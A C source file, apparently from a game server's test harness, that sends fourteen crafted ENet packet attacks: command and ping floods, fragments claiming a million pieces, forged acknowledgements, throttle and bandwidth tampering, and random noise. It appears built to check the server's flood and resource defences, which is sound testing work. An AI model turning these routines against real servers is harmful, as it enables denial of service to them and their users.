// Attacks by ENet's commands, before any message is read.

#include <enet/enet.h>

#include "attacks.h"

#define BESIDE 0xFFu
#define ACK ENET_PROTOCOL_COMMAND_FLAG_ACKNOWLEDGE
#define BARE ENET_PROTOCOL_COMMAND_FLAG_UNSEQUENCED
#define OUR_SIZE SB_ENVELOPE_CONTENTS_SIZE_MAX ///< a full datagram
#define COMMAND_COUNT 32u

// One link, and a datagram of it. Returns NULL without a link.
static raw_link *begin(attacker *self, raw_datagram *datagram)
{
    raw_link *link = attacker_next_link(self);
    if (link != NULL) {
        raw_begin(link, datagram);
    }
    return link;
}

// Empty unreliable commands pile up; then the first datagram's numbers are sent again.
static void unreliable_pile(attacker *self)
{
    raw_datagram datagram;
    raw_link *link = begin(self, &datagram);
    if (link == NULL) {
        return;
    }
    uint32_t first = self->turn % 900 < 700 ? (uint32_t)(self->turn % 900) * 148 : 0;
    for (uint32_t i = 0; datagram.size < OUR_SIZE - 8; i++) {
        raw_put_command(&datagram, ENET_PROTOCOL_COMMAND_SEND_UNRELIABLE, 1, 1);
        raw_put(&datagram, first + i, 2);
        raw_put(&datagram, 0, 2);
    }
    attacker_send(self, link, &datagram);
}

// Empty reliable commands that are never due: number 1 is missing.
static void reliable_undue(attacker *self)
{
    raw_datagram datagram;
    raw_link *link = begin(self, &datagram);
    if (link == NULL) {
        return;
    }
    uint32_t first = self->turn % 200 < 150 ? (uint32_t)(self->turn % 200) * 198 : 0;
    for (uint32_t i = 0; datagram.size < OUR_SIZE - 8; i++) {
        raw_put_command(&datagram, ENET_PROTOCOL_COMMAND_SEND_RELIABLE | ACK, 0, 2 + first + i);
        raw_put(&datagram, 0, 2);
    }
    attacker_send(self, link, &datagram);
}

// The same within what is allowed: 63 numbers wait, and are sent again.
static void reliable_window(attacker *self)
{
    raw_datagram datagram;
    raw_link *link = begin(self, &datagram);
    if (link == NULL) {
        return;
    }
    for (uint32_t i = 0; i < COMMAND_COUNT; i++) {
        raw_put_command(&datagram, ENET_PROTOCOL_COMMAND_SEND_RELIABLE | ACK, 0,
                        2 + (uint32_t)(self->turn * COMMAND_COUNT + i) % 63);
        raw_put(&datagram, 0, 2);
    }
    attacker_send(self, link, &datagram);
}

static void put_fragment(raw_datagram *datagram, uint32_t command, uint32_t number, uint32_t count)
{
    raw_put_command(datagram, command, 0, number);
    raw_put(datagram, number, 2);
    raw_put(datagram, 0, 2); // no data
    raw_put(datagram, count, 4);
    raw_put(datagram, 0, 4);
    raw_put(datagram, 1, 4); // bytes of the whole: what waits is counted by these
    raw_put(datagram, 0, 4);
}

// A fragment's bitmap has a bit for each of 1,048,576 fragments.
static void fragment_bitmaps(attacker *self)
{
    raw_datagram datagram;
    raw_link *link = begin(self, &datagram);
    if (link == NULL) {
        return;
    }
    for (uint32_t i = 0; datagram.size < OUR_SIZE - 24; i++) {
        put_fragment(&datagram, ENET_PROTOCOL_COMMAND_SEND_FRAGMENT | ACK,
                     2 + (uint32_t)self->turn % 500 * 50 + i, ENET_PROTOCOL_MAXIMUM_FRAGMENT_COUNT);
    }
    attacker_send(self, link, &datagram);
}

static void unreliable_fragments(attacker *self)
{
    raw_datagram datagram;
    raw_link *link = begin(self, &datagram);
    if (link == NULL) {
        return;
    }
    for (uint32_t i = 0; datagram.size < OUR_SIZE - 24; i++) {
        put_fragment(&datagram, ENET_PROTOCOL_COMMAND_SEND_UNRELIABLE_FRAGMENT,
                     1 + (uint32_t)self->turn % 500 * 50 + i, ENET_PROTOCOL_MAXIMUM_FRAGMENT_COUNT);
    }
    attacker_send(self, link, &datagram);
}

// Acknowledges old numbers, which ENet searches in all that waits. `newest` may be wrong.
static void acknowledge_all(attacker *self, uint32_t ahead)
{
    raw_datagram datagram;
    raw_link *link = begin(self, &datagram);
    if (link == NULL) {
        return;
    }
    for (uint32_t i = 0; i < COMMAND_COUNT; i++) {
        uint32_t number = (link->heard_number + ahead - i) & 0xFFFFu;
        raw_put_command(&datagram, ENET_PROTOCOL_COMMAND_ACKNOWLEDGE, 0, number);
        raw_put(&datagram, number, 2);
        raw_put(&datagram, raw_enet_time(), 2);
    }
    attacker_send(self, link, &datagram);
}

static void acknowledgements(attacker *self)
{
    acknowledge_all(self, 0);
}

static void acknowledgements_unsent(attacker *self)
{
    acknowledge_all(self, 20000);
}

static void pings(attacker *self)
{
    raw_datagram datagram;
    raw_link *link = begin(self, &datagram);
    for (uint32_t i = 0; link != NULL && i < COMMAND_COUNT; i++) {
        raw_put_command(&datagram, ENET_PROTOCOL_COMMAND_PING | ACK, BESIDE,
                        ++link->control_number);
    }
    if (link != NULL) {
        attacker_send(self, link, &datagram);
    }
}

// Each jump of the group clears ENet's window of numbers.
static void unsequenced_jumps(attacker *self)
{
    raw_datagram datagram;
    raw_link *link = begin(self, &datagram);
    for (uint32_t i = 0; link != NULL && i < COMMAND_COUNT; i++) {
        link->unsequenced_group = (uint16_t)(link->unsequenced_group + 1024);
        attacker_put_unsequenced(link, &datagram, "", 0);
    }
    if (link != NULL) {
        attacker_send(self, link, &datagram);
    }
}

static void bandwidth_limits(attacker *self)
{
    raw_datagram datagram;
    raw_link *link = begin(self, &datagram);
    for (uint32_t i = 0; link != NULL && i < COMMAND_COUNT; i++) {
        raw_put_command(&datagram, ENET_PROTOCOL_COMMAND_BANDWIDTH_LIMIT | ACK, BESIDE,
                        ++link->control_number);
        raw_put(&datagram, sb_random_u32(&self->random), 4);
        raw_put(&datagram, sb_random_u32(&self->random), 4);
    }
    if (link != NULL) {
        attacker_send(self, link, &datagram);
    }
}

static void throttles(attacker *self)
{
    raw_datagram datagram;
    raw_link *link = begin(self, &datagram);
    for (uint32_t i = 0; link != NULL && i < COMMAND_COUNT; i++) {
        raw_put_command(&datagram, ENET_PROTOCOL_COMMAND_THROTTLE_CONFIGURE | ACK, BESIDE,
                        ++link->control_number);
        raw_put(&datagram, 1, 4);
        raw_put(&datagram, 0, 4);
        raw_put(&datagram, 32, 4);
    }
    if (link != NULL) {
        attacker_send(self, link, &datagram);
    }
}

// Connects and leaves at once.
static void connections(attacker *self)
{
    raw_datagram datagram;
    raw_link *link = begin(self, &datagram);
    if (link != NULL) {
        raw_put_command(&datagram, ENET_PROTOCOL_COMMAND_DISCONNECT | BARE, BESIDE, 2);
        raw_put(&datagram, 1, 4);
        attacker_send(self, link, &datagram);
        raw_link_close(link);
    }
}

// Commands that only a server sends, and numbers that are no command.
static void odd_commands(attacker *self)
{
    static const uint8_t kinds[] = {0, 2, 3, 13, 14, 15};
    raw_datagram datagram;
    raw_link *link = begin(self, &datagram);
    if (link != NULL) {
        uint32_t kind = kinds[sb_random_below(&self->random, sizeof kinds)];
        raw_put_command(&datagram, kind | sb_random_below(&self->random, 16) << 4, BESIDE, 1);
        raw_put(&datagram, 0, 60);
        attacker_send(self, link, &datagram);
    }
}

// Random bytes of random size from a connection.
static void noise(attacker *self)
{
    raw_datagram datagram;
    raw_link *link = begin(self, &datagram);
    uint32_t size = sb_random_below(&self->random, OUR_SIZE - 4);
    for (uint32_t i = 0; i < size; i++) {
        raw_put(&datagram, sb_random_u32(&self->random) & 0xFFu, 1);
    }
    if (link != NULL) {
        attacker_send(self, link, &datagram);
    }
}

const attack attacks_on_enet[] = {
    {"unreliable-pile", "empty unreliable commands, then the first again", ATTACKER_STRANGER, 1,
     false, "command", unreliable_pile},
    {"reliable-undue", "empty reliable commands that are never due", ATTACKER_STRANGER, 1, false,
     "number", reliable_undue},
    {"reliable-window", "the same within the window, again and again", ATTACKER_STRANGER, 8, false,
     "peers_flooding", reliable_window},
    {"fragment-bitmaps", "fragments of 1,048,576, without data", ATTACKER_STRANGER, 8, false,
     "command", fragment_bitmaps},
    {"unreliable-fragments", "the same, unreliable", ATTACKER_STRANGER, 8, false, "command",
     unreliable_fragments},
    {"acknowledgements", "acknowledges old numbers while all else waits", ATTACKER_SPECTATOR, 8,
     true, "peers_flooding", acknowledgements},
    {"acknowledgements-unsent", "acknowledges what was never sent", ATTACKER_SPECTATOR, 8, false,
     "acknowledgement", acknowledgements_unsent},
    {"pings", "32 pings a datagram", ATTACKER_STRANGER, 8, false, "peers_flooding", pings},
    {"unsequenced-jumps", "empty unsequenced commands whose groups jump", ATTACKER_STRANGER, 8,
     false, NULL, unsequenced_jumps},
    {"bandwidth-limits", "random limits of bandwidth", ATTACKER_STRANGER, 8, false, "setting",
     bandwidth_limits},
    {"throttles", "a throttle that stops all snapshots", ATTACKER_SPECTATOR, 8, false, "setting",
     throttles},
    {"connections", "connects and leaves at once", ATTACKER_STRANGER, 1, false, NULL, connections},
    {"odd-commands", "commands of a server, and none of ENet's", ATTACKER_STRANGER, 8, false,
     "command", odd_commands},
    {"noise", "random bytes from a connection", ATTACKER_STRANGER, 8, false, NULL, noise},
};
const uint32_t attacks_on_enet_count = sizeof attacks_on_enet / sizeof attacks_on_enet[0];
